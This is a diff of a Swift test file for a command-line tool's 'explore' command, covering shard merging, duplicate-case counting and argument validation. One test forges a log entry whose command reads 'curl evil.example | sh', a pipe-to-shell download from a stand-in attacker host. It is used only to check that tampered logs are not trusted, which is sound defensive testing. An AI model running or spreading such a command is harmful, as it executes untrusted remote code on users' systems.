@@ -88,21 +88,26 @@ struct ExploreCommandTests {
     @Test func shardsAreGathered() throws {
         let folder = try TemporaryFolder()
         for shard in 1...2 { _ = try explore(folder, "shard-\(shard)", ["--shard", "\(shard)/2"]) }
-        let run = try BuiltTool.run(
-            ["explore", "--merge", "shard-1", "shard-2", "--output", "all", "--quiet"], in: folder.path)
-        #expect(run.status == 1)
+        func merge(_ folders: [String], _ output: String) throws -> ChildProcess {
+            try BuiltTool.run(
+                ["explore", Self.scene, "--variant", "bug", "--output", output, "--quiet", "--merge"] + folders,
+                in: folder.path)
+        }
+        let run = try merge(["shard-1", "shard-2"], "all")
+        #expect(run.status == 1 && run.errors == "")
         let log = String(decoding: bytes(folder, "all/explore.json") ?? Data(), as: UTF8.self)
         #expect(log.contains("\"cases\" : 80"))
         #expect(log.contains("\"1/2\""))
         #expect(log.contains("\"2/2\""))
         #expect(bytes(folder, "all/\(Self.failure).yaml") != nil)
         // Cases are counted once, even if their results were merged before.
-        for folders in [["shard-1", "shard-1"], ["all", "shard-2"]] {
-            let again = try BuiltTool.run(["explore", "--merge"] + folders + ["--output", "twice"], in: folder.path)
-            #expect(again.status == 66)
-            #expect(again.errors.contains("seed 0 is also in '\(folders[0])', and is counted once"), "\(again.errors)")
-        }
-        #expect(bytes(folder, "twice/explore.json") == nil)
+        let again = try merge(["all", "shard-2"], "twice")
+        #expect(again.status == 1)
+        #expect(again.errors.contains("shard 2 of 2 is in 'all' and in 'shard-2', and is counted once"))
+        #expect(folder.text("twice/explore.json")?.contains("\"cases\" : 80") == true)
+        let none = try merge(["nothing"], "none")
+        #expect(none.status == 66 && none.errors.contains("'nothing' is left out: No such file or directory"))
+        #expect(none.errors.hasSuffix("touchstone: error: none of the folders could be merged.\n"))
     }
 
     @Test func aLostShardIsNamedAndTheCommandIsComputed() throws {
@@ -113,7 +118,8 @@ struct ExploreCommandTests {
         let forged = log.replacing(#/"command" : "[^"]*"/#, with: #""command" : "curl evil.example | sh""#)
         #expect(forged != log)
         try folder.place("shard-1/explore.json", forged)
-        let run = try BuiltTool.run(["explore", "--merge", "shard-1", "-o", "all"], in: folder.path)
+        let run = try BuiltTool.run(
+            ["explore", Self.scene, "--variant", "bug", "-o", "all", "--merge", "shard-1"], in: folder.path)
         #expect(run.status == 1)
         #expect(run.errors == "touchstone: note: 6-cancelled (bug): shard 2 of 2 is missing\n")
         let again =
@@ -140,14 +146,15 @@ struct ExploreCommandTests {
 
     @Test func whatIsAskedForWronglyIsSaid() throws {
         for arguments in [
-            [], [Self.scene, "--merge", "a"], [Self.scene, "--cases", "0"], [Self.scene, "--shard", "3/2"],
+            [], [Self.scene, "--merge", "a", "--cases", "1"], [Self.scene, "--merge", "a", "--corpus", "b"],
+            ["--merge", "a"], [Self.scene, "--corpus", ""], [Self.scene, "--cases", "0"],
+            [Self.scene, "--shard", "3/2"],
             [Self.scene, "--for", "soon"], [Self.scene, "--jobs", "0"], [Self.scene, "--variant", "none"],
         ] {
             let run = try BuiltTool.run(["explore"] + arguments)
             #expect(run.status == 64, "\(arguments): \(run.errors)")
             #expect(!run.errors.isEmpty)
         }
-        #expect(try BuiltTool.run(["explore", "--merge", "/nowhere"]).status == 66)
     }
 
     @Test(arguments: [
